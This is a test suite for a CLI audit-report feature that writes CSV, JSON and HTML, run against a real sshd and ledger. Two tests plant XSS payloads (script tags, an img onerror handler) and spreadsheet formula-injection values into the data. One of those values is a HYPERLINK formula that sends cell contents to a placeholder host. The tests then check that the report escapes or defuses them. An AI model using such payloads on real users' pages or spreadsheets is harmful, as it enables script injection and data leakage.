// `audit report` (product.md 10) on a flow run for real (test/support/audit-flow.ts: real
// intake, real OpenSSH sshd, real acks): the CSV columns and rows, the JSON object, the filters,
// the HTML page (checked as text and rendered by headless Chromium), the output file, and the
// 50,000-row rule on a ledger generated with SQL.
import { expect } from 'chai';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { generateAuditLedger } from '../bench/audit-ledger.js';
import { defuseCsvText } from '../src/audit/formats.js';
import { HTML_MAX_ROWS, escapeHtml } from '../src/audit/html.js';
import { CSV_COLUMNS } from '../src/audit/rows.js';
import { filterSql } from '../src/audit/where.js';
import { openLedger } from '../src/ledger/db.js';
import { runAuditFlow, type AuditFlow } from './support/audit-flow.js';
import { chromiumPath, pageWidths, screenshot } from './support/chromium.js';
import { runCli } from './support/cli.js';
import { makeEnv, type TestEnv } from './support/daemon-env.js';
import { darkPixels, decodePng, inkInColumns } from './support/png.js';
import { useSharedSshd } from './support/shared-sshd.js';

interface ReportJson {
  generatedAt: string;
  generatedBy: { osUser: string; loginUser: string | null; sudoUser: string | null; text: string };
  filters: { from: { text: string; utc: string } | null; to: { text: string; utc: string } | null; partner: string | null };
  version: string;
  timezone: string;
  totals: { uploads: number; messages: number; byState: Record<string, number>; byPartner: Array<{ partner: string; messages: number; uploads: number; byState: Record<string, number> }> };
  rows: Array<Record<string, string | number | null>>;
  operatorActions: Array<{ command: string; target: string; reason: string; by: string; manifest: string | null }>;
  chain: { head: string | null; manifests: number; checkedNow: { ok: boolean; problems: string[] }; lastVerify: unknown };
}

/** RFC 4180 as this report writes it: CRLF records; quoted fields may hold commas, quotes, line breaks. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let rec: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') rec.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') {
      rec.push(field);
      records.push(rec);
      rec = [];
      field = '';
      i++;
    } else field += c;
  }
  expect(field, 'the CSV ends with CRLF').to.equal('');
  return records;
}

describe('audit report: the CSV text rule (pure)', () => {
  it('a leading = + - @ TAB or CR gets a single quote; anything else, and the same characters further in, stays', () => {
    for (const s of ['=1+1', '+1', '-5', '@SUM(A1)', '\tx', '\rx']) expect(defuseCsvText(s)).to.equal(`'${s}`);
    for (const s of ['', 'LOT2026A', '5-1', 'a=b', "'already", ' =1', 'E1042;E2001']) expect(defuseCsvText(s)).to.equal(s);
  });
});

describe('audit report: the filters as SQL (pure, shared by the rows and the operator actions)', () => {
  it('each bound on the given time column, both inclusive, the partner condition as given; none: no condition', () => {
    const on = { at: 'b.started_at', partner: 'm.partner = @partner' };
    expect(filterSql({ from: null, to: null, partner: null }, on)).to.deep.equal({ sql: '', params: {} });
    expect(filterSql({ from: '2026-01-01T00:00:00.000Z', to: '2026-12-31T23:59:59.999Z', partner: 'ACME' }, on)).to.deep.equal({
      sql: 'b.started_at >= @from AND b.started_at <= @to AND m.partner = @partner',
      params: { from: '2026-01-01T00:00:00.000Z', to: '2026-12-31T23:59:59.999Z', partner: 'ACME' },
    });
    expect(filterSql({ from: null, to: '2026-02-01T00:00:00.000Z', partner: null }, { at: 'o.at', partner: '(x)' })).to.deep.equal({ sql: 'o.at <= @to', params: { to: '2026-02-01T00:00:00.000Z' } });
  });
});

describe('audit report (real intake, real sshd, real ledger)', function () {
  let flow: AuditFlow;
  let tmp: string;

  useSharedSshd(['/inbox', '/outbox/IE_PROCESSING_RESPONSE'], {
    ready: async (sshd) => {
      flow = await runAuditFlow(sshd);
      tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'tlbridge-report-'));
    },
    closing: async () => {
      if (flow) await flow.env.close();
      if (tmp) fs.rmSync(tmp, { recursive: true, force: true });
    },
  });

  /** the report in a format, as text (stdout joined back with its line ends) */
  const report = async (...args: string[]) => {
    const r = await flow.cli('audit', 'report', ...args);
    expect(r.code, r.err.join('\n')).to.equal(0);
    return r.out.join('\n') + '\n';
  };
  const json = async (...args: string[]) => JSON.parse(await report('--format', 'json', ...args)) as ReportJson;

  it('CSV: RFC 4180 with the header row of product.md 10; one row per upload in batch order, each with the ack that answered that upload', async () => {
    const records = parseCsv(await report('--format', 'csv'));
    expect(records[0]).to.deep.equal([...CSV_COLUMNS]);
    expect(records[0]!.join(', ')).to.equal(
      'batchId, batchTime, messageType, referenceDocumentNumber, workOrderNumber, lots, fileControlNumber, remotePath, ackStatus, ackErrorCodes, ackTime, sourceFile, sourceSha256, state',
    );
    const rows = records.slice(1).map((r) => Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, r[i]])));
    const { accepted, rejected, resent, reversal } = flow.ids;
    const f = flow.fcn;
    expect(rows.map((r) => [r.batchId, r.fileControlNumber, r.ackStatus, r.ackErrorCodes, r.state])).to.deep.equal([
      ['1', f(accepted), 'SUCCESS', '', 'ACCEPTED'],
      ['1', f(rejected), 'ERROR', 'E1042;E2001', 'REJECTED'],
      // the resent message: its first upload answered by the late ERROR, its second by SUCCESS
      ['1', f(resent), 'ERROR', 'E3001', 'ACCEPTED'],
      ['2', f(resent), 'SUCCESS', '', 'ACCEPTED'],
      ['2', f(reversal), 'SUCCESS', '', 'ACCEPTED'],
    ]);
    const db = flow.env.db;
    for (const r of rows) {
      const m = db
        .prepare(`SELECT m.message_type, m.reference_doc, m.work_order, m.remote_path, f.name, f.sha256 FROM messages m JOIN files f ON f.id = m.file_id WHERE m.fcn = ?`)
        .get(r.fileControlNumber) as Record<string, string>;
      expect([r.messageType, r.referenceDocumentNumber, r.workOrderNumber, r.remotePath, r.sourceFile, r.sourceSha256]).to.deep.equal([
        m.message_type,
        m.reference_doc,
        m.work_order,
        m.remote_path,
        m.name,
        m.sha256,
      ]);
      const b = db.prepare('SELECT started_at FROM batches WHERE id = ?').pluck().get(Number(r.batchId));
      expect(r.batchTime).to.equal(b);
      expect(r.ackTime).to.match(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    }
    expect(rows.map((r) => r.lots)).to.deep.equal(['LOT2026A', 'LOT2026B', 'LOT2026C', 'LOT2026C', 'LOT2026A']);
    expect(rows[4]!.messageType).to.equal('MATERIALS_PRODUCED_REVERSAL');
    expect(rows.map((r) => r.sourceFile)).to.deep.equal(['ERP_0481_produced.txt', 'ERP_0481_produced.txt', 'ERP_0481_produced.txt', 'ERP_0481_produced.txt', 'ERP_0495_reversal.txt']);
  });

  it('JSON: one stable object; totals count messages (a resent one once); the operator actions; the chain head and a check made now', async () => {
    const j = await json();
    expect(Object.keys(j)).to.deep.equal(['generatedAt', 'generatedBy', 'filters', 'version', 'timezone', 'totals', 'rows', 'operatorActions', 'chain']);
    expect(j.generatedBy.osUser).to.equal(os.userInfo().username);
    expect(j.generatedBy).to.have.property('loginUser');
    expect(j.version).to.equal(JSON.parse(fs.readFileSync('package.json', 'utf8')).version);
    expect(j.timezone).to.equal('UTC');
    expect(j.filters).to.deep.equal({ from: null, to: null, partner: null });
    expect(j.totals).to.deep.equal({
      uploads: 5,
      messages: 4,
      byPartner: [{ partner: 'ACME-PHARMA', messages: 4, uploads: 5, byState: { ACCEPTED: 3, REJECTED: 1 } }],
      byState: { ACCEPTED: 3, REJECTED: 1 },
    });
    expect(j.rows).to.have.length(5);
    expect(j.rows[3]).to.include({ batchId: 2, fileControlNumber: flow.fcn(flow.ids.resent), ackStatus: 'SUCCESS', partner: 'ACME-PHARMA', messageId: String(flow.ids.resent) });
    // where each row sits in the archive
    for (const r of j.rows) {
      for (const k of ['batchArchiveDir', 'ackArchiveDir', 'sourceArchiveDir'] as const) {
        expect(fs.existsSync(path.join(flow.env.config.dataDir, 'archive', String(r[k]), 'manifest.json')), `${k} ${r[k]}`).to.equal(true);
      }
    }
    const cancelled = flow.fcn(flow.ids.cancelled);
    expect(j.operatorActions.map((a) => [a.command, a.target])).to.deep.equal([
      ['resend', flow.fcn(flow.ids.resent)],
      ['hold', cancelled],
      ['cancel', cancelled],
    ]);
    expect(j.operatorActions[0]!.reason).to.equal('partner lost the file (ticket 77)');
    expect(j.operatorActions[0]!.by).to.match(new RegExp(`^${os.userInfo().username}`));
    for (const a of j.operatorActions) expect(fs.existsSync(path.join(flow.env.config.dataDir, 'archive', a.manifest!))).to.equal(true);
    const head = flow.env.db.prepare('SELECT sha256 FROM manifests ORDER BY seq DESC LIMIT 1').pluck().get();
    expect(j.chain.head).to.equal(head);
    expect(j.chain.manifests).to.equal(flow.env.manifests());
    expect(j.chain.checkedNow).to.deep.include({ ok: true, problems: [] });
    expect(j.chain.lastVerify, 'no audit verify ran').to.equal(null);
  });

  it('filters: --partner, --from/--to inclusive in the timezone (dates and date-times), the operator actions of the period; bad values exit 2', async () => {
    const all = await json();
    expect((await json('--partner', 'OTHER-PARTNER')).rows).to.deep.equal([]);
    expect((await json('--partner', 'OTHER-PARTNER')).operatorActions).to.deep.equal([]);
    const p = await json('--partner', 'ACME-PHARMA');
    expect(p.rows).to.deep.equal(all.rows);
    expect(p.operatorActions.map((a) => a.command)).to.deep.equal(['resend', 'hold', 'cancel']);

    const batch2 = String(all.rows[3]!.batchTime);
    const day = batch2.slice(0, 10);
    const next = new Date(Date.parse(`${day}T00:00:00Z`) + 86_400_000).toISOString().slice(0, 10);
    const prev = new Date(Date.parse(`${day}T00:00:00Z`) - 86_400_000).toISOString().slice(0, 10);
    const today = await json('--from', day, '--to', day);
    expect(today.rows).to.have.length(5);
    expect(today.filters.from).to.deep.equal({ text: day, utc: `${day}T00:00:00.000Z` });
    expect(today.filters.to).to.deep.equal({ text: day, utc: `${day}T23:59:59.999Z` });
    expect((await json('--from', next)).rows).to.deep.equal([]);
    expect((await json('--to', prev)).rows).to.deep.equal([]);
    expect((await json('--to', prev)).operatorActions).to.deep.equal([]);
    // from the instant batch 2 started: only its rows, both ends inclusive
    const from2 = await json('--from', batch2);
    expect(from2.rows.map((r) => r.batchId)).to.deep.equal([2, 2]);
    expect(from2.totals).to.deep.include({ uploads: 2, messages: 2 });
    const upTo2 = await json('--to', batch2);
    expect(upTo2.rows.map((r) => r.batchId)).to.deep.equal([1, 1, 1, 2, 2]);

    expect((await flow.cli('audit', 'report', '--format', 'pdf')).code).to.equal(2);
    expect((await flow.cli('audit', 'report', '--from', '2026-02-30')).code).to.equal(2);
    expect((await flow.cli('audit', 'report', '--from', next, '--to', prev)).code).to.equal(2);
  });

  it('HTML: one self-contained page: heading, totals, rows, operator actions, footer with the chain; print stylesheet; no external resource', async () => {
    const html = await report();
    expect(html).to.match(/^<!DOCTYPE html>\n<html lang="en">/);
    expect(html.trimEnd()).to.match(/<\/html>$/);
    expect(html).to.include('<h1>tlbridge audit report</h1>');
    expect(html).to.include(`<dt>Generated by</dt><dd>${escapeHtml(os.userInfo().username)}`);
    expect(html).to.match(/<dt>Generated at<\/dt><dd>\d{4}-\d{2}-\d{2}T/);
    expect(html).to.include('<dt>tlbridge version</dt><dd>0.');
    expect(html).to.include('<dt>Timezone</dt><dd>UTC');
    expect(html).to.include('the beginning to now, both inclusive; partner: all');
    // totals per partner and per outcome
    expect(html).to.match(/<tr><td>ACME-PHARMA<\/td><td class="num">4<\/td><td class="num">5<\/td><td class="num">3<\/td><td class="num">1<\/td><\/tr>/);
    expect(html).to.match(/<td class="s-REJECTED">REJECTED<\/td><td class="num">1<\/td>/);
    // the rows, the operator actions
    const rows = html.slice(html.indexOf('<table class="rows">'), html.indexOf('</table>', html.indexOf('<table class="rows">')));
    expect(rows.match(/<tr>/g)).to.have.length(6); // heading + 5 uploads
    expect(rows).to.include('E1042;E2001');
    expect(html).to.include('partner lost the file (ticket 77)');
    // the footer
    const head = flow.env.db.prepare('SELECT sha256 FROM manifests ORDER BY seq DESC LIMIT 1').pluck().get() as string;
    expect(html).to.include(`<dt>Chain head</dt><dd class="mono">${head}`);
    expect(html).to.match(/<dt>Chain now<\/dt><dd><span class="ok">intact<\/span> \(chain-only check at /);
    expect(html).to.include('<dt>Last full audit verify</dt><dd>none recorded');
    // print: headers repeated, pages numbered
    expect(html).to.include('thead { display: table-header-group; }');
    expect(html).to.include('@bottom-right { content: counter(page) " / " counter(pages)');
    // self-contained: nothing loaded from anywhere
    expect(html).not.to.match(/<(script|link|img|iframe|object|embed)\b/i);
    expect(html).not.to.match(/\b(src|href)=/i);
    expect(html).not.to.match(/url\(|@import/i);
  });

  it('HTML escapes what came from the ERP and the partner: no markup from lot numbers, file names or ack codes', async () => {
    const db = flow.env.db;
    const m = flow.ids.accepted;
    const file = db.prepare('SELECT file_id FROM messages WHERE id = ?').pluck().get(m) as number;
    const before = db.prepare('SELECT name FROM files WHERE id = ?').pluck().get(file) as string;
    const lot = db.prepare('SELECT lot FROM message_lines WHERE message_id = ? AND line_no = 1').pluck().get(m) as string;
    const evil = { name: `<script>alert("name")</script>&.txt`, lot: `<img src=x onerror=alert('lot')>` };
    db.prepare('UPDATE files SET name = ? WHERE id = ?').run(evil.name, file);
    db.prepare('UPDATE message_lines SET lot = ? WHERE message_id = ?').run(evil.lot, m);
    try {
      const html = await report();
      expect(html).not.to.include('<script>');
      expect(html).not.to.include('<img');
      expect(html).to.include('&lt;script&gt;alert(&quot;name&quot;)&lt;/script&gt;&amp;.txt');
      expect(html).to.include('&lt;img src=x onerror=alert(&#39;lot&#39;)&gt;');
      // the CSV keeps the value as it is, quoted where RFC 4180 needs it
      const csv = parseCsv(await report('--format', 'csv'));
      expect(csv[1]![CSV_COLUMNS.indexOf('sourceFile')]).to.equal(evil.name);
      expect(csv[1]![CSV_COLUMNS.indexOf('lots')]).to.equal(evil.lot);
    } finally {
      db.prepare('UPDATE files SET name = ? WHERE id = ?').run(before, file);
      db.prepare('UPDATE message_lines SET lot = ? WHERE message_id = ?').run(lot, m);
    }
  });

  it('CSV defuses formulas: a text cell starting with = + - @ TAB or CR gets a leading \' (OWASP); numbers and the JSON stay as they are', async () => {
    const db = flow.env.db;
    const m = flow.ids.accepted;
    const file = db.prepare('SELECT file_id FROM messages WHERE id = ?').pluck().get(m) as number;
    const before = db.prepare('SELECT name FROM files WHERE id = ?').pluck().get(file) as string;
    const lot = db.prepare('SELECT lot FROM message_lines WHERE message_id = ? AND line_no = 1').pluck().get(m) as string;
    const ref = db.prepare('SELECT reference_doc FROM messages WHERE id = ?').pluck().get(m) as string;
    const name = '=HYPERLINK("http://x.invalid/?"&A1,"open")';
    db.prepare('UPDATE files SET name = ? WHERE id = ?').run(name, file);
    db.prepare('UPDATE message_lines SET lot = ? WHERE message_id = ?').run('@SUM(1+1)', m);
    db.prepare('UPDATE messages SET reference_doc = ? WHERE id = ?').run('-5', m);
    try {
      const records = parseCsv(await report('--format', 'csv'));
      const row = records[1]!;
      expect(row[CSV_COLUMNS.indexOf('sourceFile')]).to.equal(`'${name}`);
      expect(row[CSV_COLUMNS.indexOf('lots')]).to.equal(`'@SUM(1+1)`);
      // a text column holding "-5" is text from the ERP, defused like any other
      expect(row[CSV_COLUMNS.indexOf('referenceDocumentNumber')]).to.equal(`'-5`);
      // the number column and harmless text untouched
      expect(row[CSV_COLUMNS.indexOf('batchId')]).to.equal('1');
      expect(row[CSV_COLUMNS.indexOf('state')]).to.equal('ACCEPTED');
      expect(records[0]).to.deep.equal([...CSV_COLUMNS]);
      const j = await json();
      expect(j.rows[0]).to.include({ sourceFile: name, lots: '@SUM(1+1)', referenceDocumentNumber: '-5', batchId: 1 });
    } finally {
      db.prepare('UPDATE files SET name = ? WHERE id = ?').run(before, file);
      db.prepare('UPDATE message_lines SET lot = ? WHERE message_id = ?').run(lot, m);
      db.prepare('UPDATE messages SET reference_doc = ? WHERE id = ?').run(ref, m);
    }
  });

  it('--out FILE: written mode 0640 and named only when complete; an existing file is never overwritten (exit 1)', async () => {
    const out = path.join(tmp, 'report.csv');
    const r = await flow.cli('audit', 'report', '--format', 'csv', '--out', out);
    expect(r.code, r.err.join('\n')).to.equal(0);
    expect(r.out).to.deep.equal([]);
    expect(r.err.join('\n')).to.include(out);
    const text = fs.readFileSync(out, 'utf8');
    expect(text.startsWith('batchId,batchTime,')).to.equal(true);
    expect(parseCsv(text)).to.have.length(6);
    expect(fs.statSync(out).mode & 0o777).to.equal(0o640);
    const again = await flow.cli('audit', 'report', '--out', out);
    expect(again.code).to.equal(1);
    expect(again.err.join('\n')).to.match(/exists; a report never overwrites a file/);
    expect(fs.readFileSync(out, 'utf8')).to.equal(text);
    expect(fs.readdirSync(tmp).filter((n) => n.endsWith('.part'))).to.deep.equal([]);
  });

  it('progress on a terminal: a bar on stderr while the rows are written; stdout and the file unchanged', async () => {
    const chunks: string[] = [];
    const tty = new PassThrough() as unknown as NodeJS.WriteStream;
    Object.assign(tty, { isTTY: true, columns: 120, rows: 40 });
    tty.on('data', (c: Buffer) => void chunks.push(c.toString('utf8')));
    const out = path.join(tmp, 'progress.csv');
    const r = await runCli(['audit', 'report', '--format', 'csv', '--out', out, '--config', flow.env.configPath], { stderr: tty });
    expect(r.code, r.err.join('\n')).to.equal(0);
    expect(chunks.join('').replace(/\x1b\[[0-9;?]*[A-Za-z]/g, '')).to.match(/audit report \[.*\] \d+% \d+ of 5 rows/);
    expect(fs.readFileSync(out, 'utf8')).to.equal(await report('--format', 'csv'));
  });

  it('the HTML as a person sees it: headless Chromium renders the page with text on it (not a blank page), nothing cut at the right edge at 1280 px', async function () {
    this.timeout(240_000);
    const chromium = chromiumPath();
    if (!chromium) {
      console.log('      PENDING: no chromium on this machine (.ci/run installs it with apt-get)');
      this.skip();
    }
    const page = path.join(tmp, 'report.html');
    const blank = path.join(tmp, 'blank.html');
    fs.writeFileSync(page, await report());
    fs.writeFileSync(blank, '<!DOCTYPE html><html><head><meta charset="utf-8"><title>blank</title></head><body></body></html>\n');
    await screenshot(chromium!, page, path.join(tmp, 'report.png'));
    await screenshot(chromium!, blank, path.join(tmp, 'blank.png'));
    const shot = decodePng(fs.readFileSync(path.join(tmp, 'report.png')));
    const empty = decodePng(fs.readFileSync(path.join(tmp, 'blank.png')));
    expect([shot.width, shot.height]).to.deep.equal([1280, 900]);
    const dark = darkPixels(shot);
    expect(darkPixels(empty), 'a blank page has no dark pixels').to.equal(0);
    // heading, tables and their text: a few percent of the screen, far from a blank page
    expect(dark, `dark pixels: ${dark}`).to.be.greaterThan(0.01 * shot.width * shot.height);
    // nothing cut at the right edge at 1280 px: the layout is no wider than the window, and the
    // body's right margin (24 px) stays blank in the picture (a table sticking out paints into it)
    const widths = await pageWidths(chromium!, page);
    expect(widths.viewport).to.equal(1280);
    expect(widths.scrollWidth, `wider than the window: ${widths.overflowing.join(' | ')}`).to.be.at.most(widths.viewport);
    expect(inkInColumns(shot, shot.width - 16, shot.width), 'ink in the right margin').to.equal(0);
    if (process.env.TLBRIDGE_KEEP_SCREENSHOT) fs.copyFileSync(path.join(tmp, 'report.png'), process.env.TLBRIDGE_KEEP_SCREENSHOT);
  });
});

describe('audit report: above 50,000 rows the HTML holds the totals and points to the CSV', function () {
  let env: TestEnv;
  let tmp: string;
  let configPath: string;
  const N = HTML_MAX_ROWS + 1;

  before(function () {
    this.timeout(180_000);
    env = makeEnv();
    tmp = env.dir;
    configPath = env.configPath;
    const db = openLedger(path.join(tmp, 'var', 'ledger.sqlite'));
    try {
      // the generator writes 1 upload per message plus a second one for every 100th
      const g = generateAuditLedger(db, Math.ceil(N / 1.01) + 1);
      expect(g.uploads).to.be.greaterThan(HTML_MAX_ROWS);
    } finally {
      db.close();
    }
  });
  after(() => fs.rmSync(tmp, { recursive: true, force: true }));

  it('the page has the totals and the CSV command of the same period; the CSV has every row', async function () {
    this.timeout(180_000);
    const html = path.join(tmp, 'big.html');
    const r = await runCli(['audit', 'report', '--config', configPath, '--from', '2026-01-01', '--out', html]);
    expect(r.code, r.err.join('\n')).to.equal(0);
    const page = fs.readFileSync(html, 'utf8');
    const uploads = Number(/(\d+) uploads: more than 50000/.exec(page)?.[1]);
    expect(uploads).to.be.greaterThan(HTML_MAX_ROWS);
    expect(page).to.include(`tlbridge audit report --format csv --from 2026-01-01 --out ${path.join(tmp, 'big')}.csv`);
    expect(page).not.to.include('<table class="rows">');
    expect(page).to.include('<h2>Totals</h2>');
    expect(page.length, 'the page stays small').to.be.lessThan(20_000);
    const csv = path.join(tmp, 'big.csv');
    const c = await runCli(['audit', 'report', '--config', configPath, '--format', 'csv', '--from', '2026-01-01', '--out', csv]);
    expect(c.code, c.err.join('\n')).to.equal(0);
    const lines = fs.readFileSync(csv, 'utf8').split('\r\n');
    expect(lines.pop()).to.equal('');
    expect(lines.length - 1).to.equal(uploads);
  });
});
